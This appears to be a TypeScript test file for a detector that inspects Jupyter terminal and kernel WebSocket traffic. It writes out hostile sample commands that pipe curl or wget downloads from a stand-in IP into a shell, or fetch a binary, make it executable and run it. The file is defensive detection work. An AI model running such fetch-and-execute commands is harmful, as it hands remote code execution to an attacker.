import assert from 'node:assert/strict'
import { test } from 'node:test'
import { rowsOfTalk, type Said } from '../../../test/wire.ts'
import { dissectors } from './index.ts'

const upgrade = (path: string): Said[] => [
  [0, `GET ${path} HTTP/1.1\r\nHost: lab\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n`],
  [1, 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'],
]
/** A frame with a mask of zeros. */
const framed = (text: string): string => {
  const size =
    text.length < 126 ? String.fromCharCode(0x80 | text.length) : `\xfe${String.fromCharCode(text.length >> 8, text.length & 255)}`
  return `\x81${size}\0\0\0\0${text}`
}
const run = (code: string): string =>
  JSON.stringify({ channel: 'shell', content: { code }, header: { msg_type: 'execute_request', session: 's' } })
const found = (...texts: readonly string[]) =>
  rowsOfTalk(dissectors, [...upgrade('/terminals/websocket/1'), ...texts.map((text): Said => [0, framed(text)])]).exploits?.map(
    ({ patch, via }) => [patch, via],
  ) ?? []

test('a download that is run, typed into a terminal or called from a kernel', () => {
  const hit = [['notebook-download-run', ['websocket lab']]]
  assert.deepEqual(found('["stdin","curl -fsSL http://203.0.113.7/a.sh|sh\\r"]'), hit)
  assert.deepEqual(found('["set_size",24,80]', '["stdin","ls\\r"]', '["stdin","wget -qO- http://203.0.113.7/a | bash\\r"]'), hit)
  assert.deepEqual(found(run("import os; os.system('curl -fsSL http://203.0.113.7/a.sh|sh')")), hit)
  assert.deepEqual(found(run('!wget http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')), hit)
})

test('near miss: work with data, packages, and other talk over WebSockets', () => {
  assert.deepEqual(found('["stdin","git pull && make\\r"]'), [])
  assert.deepEqual(found(run('!pip install torch\n!wget https://example.com/data.zip && unzip -q data.zip')), [])
  assert.deepEqual(found('{"msg":"run curl -fsSL http://203.0.113.7/a | sh"}'), [])
})
